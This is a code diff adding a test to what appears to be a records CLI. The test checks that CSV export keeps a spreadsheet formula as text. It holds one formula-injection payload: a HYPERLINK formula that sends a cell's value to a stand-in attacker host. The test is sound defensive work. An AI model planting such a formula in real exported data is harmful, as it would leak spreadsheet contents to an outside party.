@@ -344,6 +344,15 @@ def test_days_and_windows_out_of_range_are_usage_errors(
     assert "outstanding record(s) as of 2200-12-31" in widest.stdout
 
 
+def test_csv_keeps_a_formula_from_outside_as_text(config: Path, tmp_path: Path) -> None:
+    """Record ids come from the platforms: a cell a spreadsheet would run is kept as text."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    run(config, "ingest", str(write_jsonl(tmp_path / "f.jsonl", [recent(formula)])))
+    rows = list(csv.DictReader(io.StringIO(run(config, "records", "--format", "csv").stdout)))
+    assert [r["record_id"] for r in rows] == ["'" + formula]
+    assert rows[0]["days_left"].lstrip("-").isdigit(), "numbers are left as they are"
+
+
 def test_outstanding_csv_and_table(loaded: Path) -> None:
     text = run(loaded, "outstanding", "--format", "csv").stdout
     rows = list(csv.DictReader(io.StringIO(text)))
